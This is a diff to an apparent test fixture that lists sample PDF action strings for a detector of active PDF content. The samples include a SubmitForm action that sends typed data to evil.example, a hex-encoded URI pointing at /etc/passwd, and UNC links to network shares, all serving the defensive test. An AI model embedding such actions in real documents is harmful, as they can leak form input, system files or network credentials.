@@ -103,6 +103,14 @@ const samples = [
     ],
     ["a form that sends what is typed", "submitForm", "/SubmitForm /F (https://evil.example/x)"],
     ["a data import", "importData", "/ImportData /F (\\\\\\\\server\\\\data.fdf)"],
+    [
+      "a link to a local file, in hex",
+      "otherLink",
+      "/URI /URI <66696C653A2F2F2F6574632F706173737764>",
+    ],
+    ["a link to a network share", "otherLink", "/URI /URI (\\\\\\\\server\\\\share)"],
+    ["a rendition action", "media", "/Rendition /OP 0 /AN 3 0 R"],
+    ["a thread action into another file", "otherFile", "/Thread /F (\\\\\\\\server\\\\a.pdf) /D 0"],
   ].map(([what, part, action]) => ({
     what: what!,
     part: pdfActiveParts[part as keyof typeof pdfActiveParts],
